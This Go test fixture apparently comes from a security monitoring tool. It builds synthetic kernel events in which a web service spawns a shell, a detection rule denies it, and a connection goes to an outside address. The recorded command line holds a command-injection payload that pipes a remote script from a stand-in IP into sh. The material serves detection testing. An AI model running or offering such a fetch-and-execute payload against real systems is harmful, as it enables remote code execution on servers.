package consoletest

import (
	"net/netip"
	"time"

	"github.com/testudo-sec/testudo/signal"
)

// KernelEvents returns what the kernel plane told of the shell that the traced request caused: its start, which a rule fired on, and a connection.
// The world's trace leads to the first of them where it is in the log.
func KernelEvents(at time.Time) []*signal.Event {
	event := func(class signal.Class, activity uint8, after time.Duration) *signal.Event {
		e := &signal.Event{ID: signal.NewID(at.Add(after)), Time: at.Add(after).UnixNano(), Class: class, Activity: activity, Severity: signal.SeverityInfo, Plane: signal.PlaneKernel}
		text(e, signal.FieldHTTPRequestUID, Traced, signal.FieldDeviceHostname, "demo", signal.FieldContainerName, "shop", signal.FieldContainerImageName, "registry.example/shop")
		disposition, action := signal.Allow.Disposition()
		e.SetInt(signal.FieldDispositionID, disposition)
		e.SetInt(signal.FieldActionID, action)
		return e
	}
	shell := event(signal.ClassProcessActivity, signal.ActivityProcessLaunch, 0)
	text(shell, signal.FieldProcessUID, Shell, signal.FieldProcessCmdLine, `sh -c "ping -c 1 127.0.0.1; curl -s http://198.51.100.9/x | sh"`, signal.FieldProcessFilePath, "/bin/dash",
		signal.FieldProcessUserName, "33", signal.FieldProcessParentProcessFilePath, "/srv/shop", signal.FieldProcessParentProcessName, "shop",
		signal.FieldVerdictReason, "A service that answers requests started a shell: /srv/shop ran sh.")
	shell.SetInt(signal.FieldProcessPID, 4107)
	shell.SetInt(signal.FieldProcessParentProcessPID, 4100)
	shell.SetStrings(signal.FieldProcessLineage, []string{"/srv/shop", "/usr/bin/containerd-shim-runc-v2", "/usr/lib/systemd/systemd"})
	shell.SetStrings(signal.FieldVerdictRules, []string{"host-shell-of-a-service"})
	disposition, action := signal.Deny.Disposition()
	shell.SetInt(signal.FieldDispositionID, disposition)
	shell.SetInt(signal.FieldActionID, action)
	shell.Severity = signal.SeverityHigh
	conn := event(signal.ClassNetworkActivity, 1, 200*time.Millisecond)
	text(conn, signal.FieldActorProcessUID, Shell, signal.FieldActorProcessFilePath, "/bin/dash", signal.FieldConnectionInfoProtocolName, "tcp")
	conn.SetIP(signal.FieldDstEndpointIP, netip.MustParseAddr("198.51.100.9"))
	conn.SetInt(signal.FieldDstEndpointPort, 80)
	return []*signal.Event{shell, conn}
}

// shellEvent is the first of KernelEvents, zero where they are not in the log.
func (w *World) shellEvent() signal.ID {
	for _, e := range w.Log {
		if e.Plane == signal.PlaneKernel && e.RecordedStr(signal.FieldProcessUID) == Shell {
			return e.ID
		}
	}
	return signal.ID{}
}
